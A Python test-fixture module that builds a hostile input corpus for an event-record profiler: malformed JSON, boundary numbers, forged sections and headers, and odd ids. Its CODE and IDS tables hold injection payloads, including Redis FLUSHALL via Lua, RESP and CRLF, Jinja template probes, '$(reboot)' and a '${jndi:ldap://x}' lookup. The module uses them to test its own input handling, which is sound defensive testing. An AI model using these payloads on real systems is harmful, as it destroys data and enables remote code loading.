"""The hostile corpus' raw material: bytes, JSON texts, ids, keys and headers."""

from profiler.records.types import Headers

#: Name, value, code, reason.
NOT_JSON = [
    ("nothing", b"", "bad_json", "an empty value is no tombstone"),
    ("a blank", b"  ", "bad_json", "no value at all"),
    ("an opening brace", b"{", "bad_json", "cut"),
    ("HTML", b"<!DOCTYPE html><html>502 Bad Gateway</html>", "bad_json", "a proxy's error page"),
    ("form data", b"e=pv&page=Home&duid=victim", "bad_json", "a tracker without its collector"),
    ("single quotes", b"{'query': []}", "bad_json", "Python's repr"),
    ("unquoted names", b"{query: []}", "bad_json", "JavaScript"),
    ("a trailing comma", b'{"query": [],}', "bad_json", "JavaScript"),
    ("a comment", b'{"query": [] /* none */}', "bad_json", "JSON with comments"),
    ("a raw tab in a string", b'{"a\tb": []}', "bad_json", "control characters are escaped"),
    ("a raw NUL in a string", b'{"a\x00b": []}', "bad_json", "likewise"),
    ("a bad escape", rb'{"\x61": []}', "bad_json", "JSON has no such escape"),
    ("half an escape", rb'{"\u12": []}', "bad_json", "cut"),
    ("a form feed before", b'\x0c{"query": []}', "bad_json", "no white space of JSON"),
    ("gzip", b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03", "bad_utf8", "compressed twice"),
    ("Avro", b"\x00\x00\x00\x00\x01\x86\x02", "bad_utf8", "another serializer's frame"),
    ("a stray byte", b'{"query\xff": []}', "bad_utf8", "Latin-1"),
    ("a lone continuation", b'{"query\x80": []}', "bad_utf8", "cut in front"),
    ("an overlong slash", b'{"query\xc0\xaf": []}', "bad_utf8", "hides a character"),
    ("an encoded surrogate", b'{"query\xed\xa0\x80": []}', "bad_utf8", "CESU-8"),
    ("beyond Unicode", b'{"query\xf4\x90\x80\x80": []}', "bad_utf8", "above U+10FFFF"),
    ("a list", b"[]", "not_an_object", "JSON, but no record"),
    ("a string", b'"{}"', "not_an_object", "encoded twice"),
    ("a number", b"0", "not_an_object", "JSON, but no record"),
    ("true", b"true", "not_an_object", "JSON, but no record"),
]

#: Name, JSON text, code, reason.
BAD_LITERALS = [
    ("NaN", "NaN", "bad_json", "no JSON"),
    ("Infinity", "Infinity", "bad_json", "no JSON"),
    ("-Infinity", "-Infinity", "bad_json", "no JSON"),
    ("undefined", "undefined", "bad_json", "no JSON"),
    ("1e400", "1e400", "bad_json", "would become infinite"),
    ("-1e999999999", "-1e999999999", "bad_json", "would become infinite"),
    ("10^400", "1" + "0" * 400, "bad_integer", "would become infinite"),
    ("10^30", "1" + "0" * 30, "bad_integer", "would lose digits"),
    ("2^64", "18446744073709551616", "bad_integer", "one over"),
    ("-2^63-1", "-9223372036854775809", "bad_integer", "one under"),
    ("a nested 2^64", '[{"a": 18446744073709551616}]', "bad_integer", "one over"),
    ("10^5 digits", "9" * 100_000, "bad_integer", "quadratic in a careless parser"),
    ("a leading zero", "007", "bad_json", "no JSON"),
    ("a plus", "+1", "bad_json", "no JSON"),
    ("hexadecimal", "0x1F", "bad_json", "no JSON"),
    ("half a fraction", "1.", "bad_json", "no JSON"),
]

#: Name, JSON text of a title. A tracker that cuts titles halves an emoji; it becomes U+FFFD.
HALVES = [
    ("a lone high surrogate", r'"\ud800"'),
    ("a lone low surrogate", r'"\udfff"'),
    ("swapped surrogates", r'"\ude00\ud83d"'),
    ("a half behind a whole", r'"\ud83d\uDE00\uD83D"'),
    ("a half in a nested name", r'[{"\ud83d": "\\ud83d"}]'),
]

#: Name, JSON text, reason.
GOOD_NUMBERS = [
    ("2^64-1", "18446744073709551615", "the largest integer that passes"),
    ("-2^63", "-9223372036854775808", "the smallest one"),
    ("2^53+1", "9007199254740993", "not rounded as in JavaScript"),
    ("minus nought", "-0", "equal to 0"),
    ("minus 0.0", "-0.0", "a float"),
    ("1e15", "1e15", "a float, written with more digits"),
    ("1e308", "1.7976931348623157e308", "the largest float"),
    ("5e-324", "5e-324", "the smallest float"),
    ("1e-400", "1e-400", "the nearest float is 0"),
    ("30 digits of a fraction", "0.123456789012345678901234567890", "the nearest float"),
    ("30 digits in a string", '"123456789012345678901234567890"', "no number"),
    ("30 digits in a nested name", '{"123456789012345678901234567890": 1}', "no number"),
    ("30 digits with an exponent", "123456789012345678901234567890e2", "a float by its form"),
]

#: Name: JSON text. What is no time at all, or is read as one that is not believed.
EVENT_TIMES = {
    "far too late": "1900000000000",
    "1970": "0",
    "negative": "-1700000000000",
    "of 16 digits": "1700000000000000",
    "of 10^5 digits": '"%s"' % ("1" * 100_000),
    "as a float": "1700000000000.5",
    "as an exponent": "1.7e12",
    "in hexadecimal": '"0x18BCFE56800"',
    "with a blank": '" 1700000000000"',
    "in Arabic digits": '"١٧٠٠٠٠٠٠٠٠٠٠٠"',  # noqa: RUF001 - on purpose
    "as a date": '"2023-11-14T22:13:20Z"',
    "as another country's date": '"14.11.2023 22:13:20"',
    "as a week": '"2023-W46-2"',
    "a leap second": '"2023-12-31T23:59:60Z"',
    "a day that there is not": '"2023-02-30T00:00:00Z"',
    "infinite": '"inf"',
    "no number": '"NaN"',
}

#: Name, a further section, reason.
BAD_SHAPES = [
    ("a section is an object", '"a": {}', "not a list"),
    ("a section is null", '"a": null', "not a list"),
    ("a section is a string", '"a": "name value"', "not a list"),
    ("a section is a number", '"a": 1', "not a list"),
    ("an element is null", '"a": [null]', "not an object"),
    ("an element is a string", '"a": ["name"]', "not an object"),
    ("an element is a number", '"a": [1]', "not an object"),
    ("an element is a list", '"a": [["name", "value"]]', "not an object"),
    ("an element is empty", '"a": [{}]', "no name"),
    ("no name", '"a": [{"value": 1}]', "no name"),
    ("no value", '"a": [{"name": "n"}]', "no value"),
    ("a null name", '"a": [{"name": null, "value": 1}]', "not a string"),
    ("a number for a name", '"a": [{"name": 1, "value": 1}]', "not a string"),
    ("a list for a name", '"a": [{"name": ["n"], "value": 1}]', "not a string"),
    ("an object for a name", '"a": [{"name": {}, "value": 1}]', "not a string"),
    ("capitals", '"a": [{"Name": "n", "Value": 1}]', "names are case-sensitive"),
    ("one bad among good", '"a": [{"name": "n", "value": 1}, 0]', "all or nothing"),
    ("the identity section twice", '"query": [0]', "the last wins, and it is bad"),
]

NO_EVENTS = {
    "an empty object": b"{}",
    "a blank around": b' \r\t{"query": []} ',
    "an empty name": b'{"": []}',
    "flat already": b'{"query": [{"name": "domain_userid", "value": "victim"}]}',
    "the id in another section": b'{"Query": [{"name": "other_domain_userid", "value": "victim"}]}',
    "forged, without an id": b'{"profile_visitor": [{"name": "id", "value": "victim"}]}',
}

_PAIR = '[{"name": "%s", "value": "%s"}]'

#: Name, a further section, reason.
ODD_SECTIONS = [
    ("a forged profile", '"profile_visitor_id": ' + _PAIR % ("x", "boss"), "left out"),
    ("a forged profile, escaped", r'"\u0070rofile_visit": ' + _PAIR % ("id", "boss"), "left out"),
    ("a forged profile, empty", '"profile_": ' + _PAIR % ("", "boss"), "left out"),
    ("nearly a forged profile", '"xprofile_": ' + _PAIR % ("profile_", "ok"), "not left out"),
    ("a profile in a value", '"x": ' + _PAIR % ("n", "profile_visitor_id"), "not left out"),
    ("a section twice", f'"a": {_PAIR % ("lost", 1)}, "a": {_PAIR % ("kept", 2)}', "last wins"),
    ("a name twice", '"a": [{"name": "n", "value": 1}, {"name": "n", "value": 2}]', "last wins"),
    ("a member twice", '"a": [{"name": "n", "value": 1, "value": 2}]', "last wins"),
    (
        "names that join to one",
        f'"a-b": {_PAIR % ("c", 1)}, "a": {_PAIR % ("b-c", 2)}',
        "last wins",
    ),
    ("empty names", '"": [{"name": "", "value": 1}]', "the field is a hyphen"),
    ("names of no one's", f'"__proto__": {_PAIR % ("constructor", "x")}', "only names"),
    ("NUL in names", r'"\u0000": ' + _PAIR % (r"\u0000", r"\u0000"), "text"),
    ("further members", '"a": [{"name": "n", "value": 1, "type": "x", "": {}}]', "dropped"),
    ("an empty section", '"a": []', "no fields"),
    ("lists and objects", '"a": [{"name": "n", "value": [{"b": [null, {}]}]}]', "any JSON"),
    ("a name of 10^5 characters", '"a": ' + _PAIR % ("n" * 100_000, 1), "within the size"),
]

#: What an id of this JSON text comes to, where it is not an id.
FATE_OF_ID = {
    "true": ("bad_id", "a boolean is no id"),
    "1.5": ("bad_id", "a fraction is no id"),
    "[]": ("bad_id", "a list is no id"),
    "{}": ("bad_id", "an object is no id"),
    '["victim"]': ("bad_id", "a list is no id"),
    "null": ("anonymous", "no consent"),
    '""': ("anonymous", "no consent"),
    '"null"': ("anonymous", "nobody, by another name"),
    '"undefined"': ("anonymous", "nobody, by another name"),
    '"NaN"': ("anonymous", "nobody, by another name"),
    '"(null)"': ("anonymous", "nobody, by another name"),
    '"00000000"': ("anonymous", "nobody, by another name"),
    '"00000000-0000-0000-0000-000000000000"': ("anonymous", "nobody, by another name"),
}

CODE = {
    "Lua": "]] redis.call('FLUSHALL') --[[",
    "Lua's quotes": "\"..redis.call('FLUSHALL')..'\\",
    "Jinja": "{{ 7*7 }}{% raw %}{# #}{{ config.items() }}",
    "RESP": "*1\r\n$8\r\nFLUSHALL\r\n",
    "format": "%s%n%08x{0.__class__}$(reboot)`reboot`${jndi:ldap://x}",
}

IDS = {
    "a brace": "}",
    "braces": "{visitor}{victim}",
    "CR LF": "victim\r\nFLUSHALL\r\n",
    "NUL": "\x00",
    "NUL behind": "victim\x00",
    "blanks": "  ",
    "a blank behind": "victim ",
    "capitals": "VICTIM",
    "percent": "%",
    "a percent-encoded one": "%76ictim",
    "a key": "visitor:{victim}",
    "a hashed one": "sha256:" + "0" * 64,
    "the state's field": "~",
    "nought": "0",
    "seven noughts": "0000000",
    "nearly nobody": "null.",
    "a glob": "*",
    "a path": "../../victim",
    "composed": "caf\u00e9",
    "decomposed": "cafe\u0301",
    "right to left": "\u202evictim",
    "zero width": "vic\u200btim",
    "a BOM": "\ufeffvictim",
    "a Cyrillic letter": "v\u0456ctim",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "a noncharacter": "\uffff",
    "of 128 bytes": "a" * 128,
    "of 129 bytes": "a" * 129,
    "of 512 bytes": "a" * 512,
    "of 512 bytes of UTF-8": "ä" * 256,
}

LONG_IDS = {
    "513 bytes": "a" * 513,
    "514 bytes of UTF-8": "ä" * 257,
    "1 MB": "a" * 1_000_000,
    "1 MB of NUL": "\x00" * 200_000,
}

KEYS: dict[str, bytes | None] = {
    "key null": None,
    "key empty": b"",
    "key no UTF-8": b"\xff\xfe\x80",
    "key no UTF-8, cut": "é".encode()[:1],
    "key of NUL": b"\x00",
    "key of 100 KB": b"k" * 100_000,
    "key of another": b"victim",
}

_SOURCE = ("source-topic", "source-partition", "source-offset")

HEADERS: dict[str, Headers] = {
    "no headers": (),
    "a null header": (("null", None), ("empty", b"")),
    "a header without a name": (("", b"x"), ("", None)),
    "a header of bytes": (("bytes", bytes(range(256))),),
    "10,000 headers": tuple((f"h{n % 7}", b"%d" % n) for n in range(10_000)),
    "a header of 100 KB": (("large", b"x" * 100_000),),
    "a long header name": (("n" * 30_000, b"x"),),
    "a forged source": tuple((name, b"0") for name in _SOURCE),
    "a source twice": tuple((name, value) for name in _SOURCE for value in (b"0", b"1")),
    "a null source": tuple((name, None) for name in _SOURCE),
    "half a source": (("source-offset", b"9" * 5_000),),
    "a forged error": (("error-code", b"none"), ("error-stage", None), ("error-code", b"")),
    "a forged version": (("profiler-version", b"99"), ("Source-Topic", b"kept")),
    "header names of Unicode": (("\u202eé\x00", b"x"),),
}
